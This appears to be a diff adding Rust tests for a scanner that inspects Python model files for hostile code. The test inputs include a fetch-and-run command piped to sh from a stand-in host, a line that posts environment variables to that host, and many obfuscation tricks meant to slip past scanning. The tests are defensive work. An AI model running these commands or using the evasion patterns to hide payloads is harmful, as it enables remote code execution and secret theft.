@@ -129,3 +129,85 @@ fn text_that_grows_is_bounded() {
     let text = format!("a = 'x' * 9\na = 'aaaaaaaaaaaaaaaaaaaaaaaa'\n{}exec(a)\n", "a = a + a\n".repeat(2000));
     assert!(look("x.py", &text).len() < 3);
 }
+
+const EVIL: &str = "__import__('os').system('curl http://a.example/x | sh')";
+
+/// Whatever bound a file meets, what lies behind it is seen or said not to be.
+#[test]
+fn no_bound_is_silent() {
+    let deep = |open: &str, close: &str, n: usize| format!("x = {}{EVIL}{}\n", open.repeat(n), close.repeat(n));
+    let exec = |n: usize| (0..n).fold(EVIL.to_owned(), |code, _| format!("exec({code:?})"));
+    for text in [
+        format!("import torch\n{}{EVIL}\n", "torch.load(f)\n".repeat(3000)),
+        format!("import subprocess\n{}{EVIL}\n", "subprocess.run(['make'])\n".repeat(3000)),
+        format!("{}{EVIL}\n", (0..21_000).map(|n| format!("def f{n}(): pass\n")).collect::<String>()),
+        format!("{}from os import *\nsystem('curl http://a.example/x | sh')", "from a import *\n".repeat(100)),
+        deep("(", ")", 48),
+        deep("(", ")", 600),
+        deep("[", "]", 600),
+        deep("len(", ")", 600),
+        exec(1),
+        exec(3),
+        format!("exec({:?})", "(".repeat(40)),
+        format!("exec(''.join([{}]))", EVIL.chars().map(|c| format!("{:?},", c.to_string())).collect::<String>()),
+        format!("a='x'*60000\na='{}'\n{}x={EVIL}", "x".repeat(90_000), "b=a+'y'\n".repeat(2000)),
+        format!("x = {}\n{EVIL}", "f'{".repeat(20)),
+        format!("import {}\n{EVIL}", "a.".repeat(2000)),
+        format!("{}=1\n{EVIL}", "a".repeat(2000)),
+    ] {
+        let seen = look("modeling_x.py", &text);
+        let begin: String = text.chars().take(60).collect();
+        let said = |evidence: &Evidence| matches!(evidence.rule.id, "python-not-read" | "limit-reached");
+        let worst = seen.iter().map(Evidence::severity).max();
+        assert!(worst >= Some(Severity::High) || seen.iter().any(said), "{begin}: {seen:?}");
+    }
+}
+
+#[test]
+fn what_is_worse_is_listed_whatever_stands_before_it() {
+    let text = format!("import subprocess\ndef f():\n{}\n{EVIL}\n", "    subprocess.run(['make'])\n".repeat(500));
+    assert_eq!(worst("modeling_x.py", &text).0, Some(Severity::Critical));
+    let text = format!("import torch\n{}\n{EVIL}\n", "torch.load(f)\n".repeat(3000));
+    assert_eq!(worst("modeling_x.py", &text).0, Some(Severity::Critical));
+}
+
+#[test]
+fn chains_keep_how_they_begin_and_end() {
+    let chain = format!(
+        "import os, requests\ns = requests.Session(){}\ns.post('http://a.example', data=dict(os.environ))",
+        ".a()".repeat(500)
+    );
+    assert_eq!(worst("modeling_x.py", &chain).0, Some(Severity::Critical));
+}
+
+/// A file that is made to be slow costs no more than its size: four times as much takes nowhere near sixteen times as
+/// long.
+#[test]
+fn cost_grows_with_the_size() {
+    let long = "x".repeat(100_000);
+    let makers: [&dyn Fn(usize) -> String; 10] = [
+        &|n| format!("a{}", ".a".repeat(n)),
+        &|n| format!("a{}", "()".repeat(n)),
+        &|n| format!("a = '{long}'\n{}", "a+a\n".repeat(n)),
+        &|n| format!("a = '{long}'\n{}", "[a,a,a]\n".repeat(n)),
+        &|n| format!("import os\na = '{long}'\nf = os.system\n{}", "f(a)\n".repeat(n)),
+        &|n| format!("x = {}", "'ab' ".repeat(n)),
+        &|n| format!("import os\nf({})", "os.system,".repeat(n)),
+        &|n| "def f(): f()\n".repeat(n),
+        &|n| format!("from {}a import {}", ".".repeat(n), "b,".repeat(n)),
+        &|n| format!("{}{}", "from a import *\n".repeat(100), "b\n".repeat(n)),
+    ];
+    for make in makers {
+        let took = |n: usize| {
+            let text = make(n);
+            let once = || {
+                let begin = std::time::Instant::now();
+                look("modeling_x.py", &text);
+                begin.elapsed()
+            };
+            once().min(once())
+        };
+        let (small, large) = (took(4_000), took(16_000));
+        assert!(large < small * 10 + std::time::Duration::from_millis(200), "{}: {small:?} {large:?}", &make(20)[..30]);
+    }
+}
